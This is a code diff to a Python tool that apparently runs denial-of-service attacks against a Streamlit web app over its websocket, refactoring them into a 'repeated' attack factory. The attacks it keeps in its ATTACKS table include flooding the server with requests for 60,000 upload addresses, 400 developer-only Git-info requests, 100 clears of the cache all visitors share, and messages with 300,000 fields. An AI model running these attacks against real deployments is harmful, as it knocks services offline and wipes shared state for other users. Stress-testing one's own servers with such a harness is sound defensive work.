@@ -51,23 +51,20 @@ async def drain(socket: Any) -> None:
             pass
 
 
-async def send_all(address: str, data: bytes, count: int) -> None:
-    """Sends the same message `count` times over one websocket and reads the responses."""
-    with contextlib.suppress(websockets.WebSocketException, OSError):
-        async with visit(address) as opened:
-            await act(opened, "")
-            reader = asyncio.create_task(drain(opened))
-            for _ in range(count):
-                await opened.send(data)
-            await asyncio.sleep(SECONDS / 2)
-            reader.cancel()
+def repeated(message: BackMsg, fields: int = 1, times: int = 10) -> Attack:
+    """Returns an attack that sends a message, `fields` times its own length, over one websocket, and reads."""
+    data = message.SerializeToString() * fields
 
-
-def back(**fields: Any) -> bytes:
-    message = BackMsg()
-    for name, value in fields.items():
-        setattr(message, name, value)
-    return message.SerializeToString()
+    async def attack(address: str) -> None:
+        with contextlib.suppress(websockets.WebSocketException, OSError):
+            async with visit(address) as opened:
+                await act(opened, "")
+                reader = asyncio.create_task(drain(opened))
+                for _ in range(times):
+                    await opened.send(data)
+                await asyncio.sleep(SECONDS / 2)
+                reader.cancel()
+    return attack
 
 
 async def events(address: str) -> None:
@@ -83,28 +80,6 @@ async def events(address: str) -> None:
             for _ in range(8):
                 await opened.send(message.SerializeToString())
                 await asyncio.sleep(SECONDS / 10)
-
-
-async def file_urls(address: str) -> None:
-    """Requests upload addresses for 60,000 files in one message, ten times."""
-    message = BackMsg()
-    message.file_urls_request.file_names.extend("a" for _ in range(60_000))
-    await send_all(address, message.SerializeToString(), 10)
-
-
-async def git_info(address: str) -> None:
-    """Sends Streamlit's request for Git information, meant for developers, 400 times."""
-    await send_all(address, back(load_git_info=True), 400)
-
-
-async def clear_cache(address: str) -> None:
-    """Sends Streamlit's request to clear the cache, which all visitors share, 100 times."""
-    await send_all(address, back(clear_cache=True), 100)
-
-
-async def many_fields(address: str) -> None:
-    """Sends ten messages with 300,000 fields each."""
-    await send_all(address, back(load_git_info=True) * 300_000, 10)
 
 
 async def fragments(address: str) -> None:
@@ -174,9 +149,13 @@ async def translations(address: str) -> None:
 
 
 ATTACKS: dict[str, Attack] = {
-    "events": events, "file urls": file_urls, "git info": git_info, "clear cache": clear_cache,
-    "many fields": many_fields, "fragments": fragments, "text": text_of_megabytes, "idle sockets": idle_sockets,
-    "half requests": half_requests, "translations": translations}
+    "events": events,
+    "file urls": repeated(BackMsg(file_urls_request={"file_names": ["a"] * 60_000})),
+    "git info": repeated(BackMsg(load_git_info=True), times=400),  # a request that is meant for developers
+    "clear cache": repeated(BackMsg(clear_cache=True), times=100),  # of the cache that all visitors share
+    "many fields": repeated(BackMsg(load_git_info=True), fields=300_000), "fragments": fragments,
+    "text": text_of_megabytes, "idle sockets": idle_sockets, "half requests": half_requests,
+    "translations": translations}
 
 
 async def load_models(address: str) -> None:
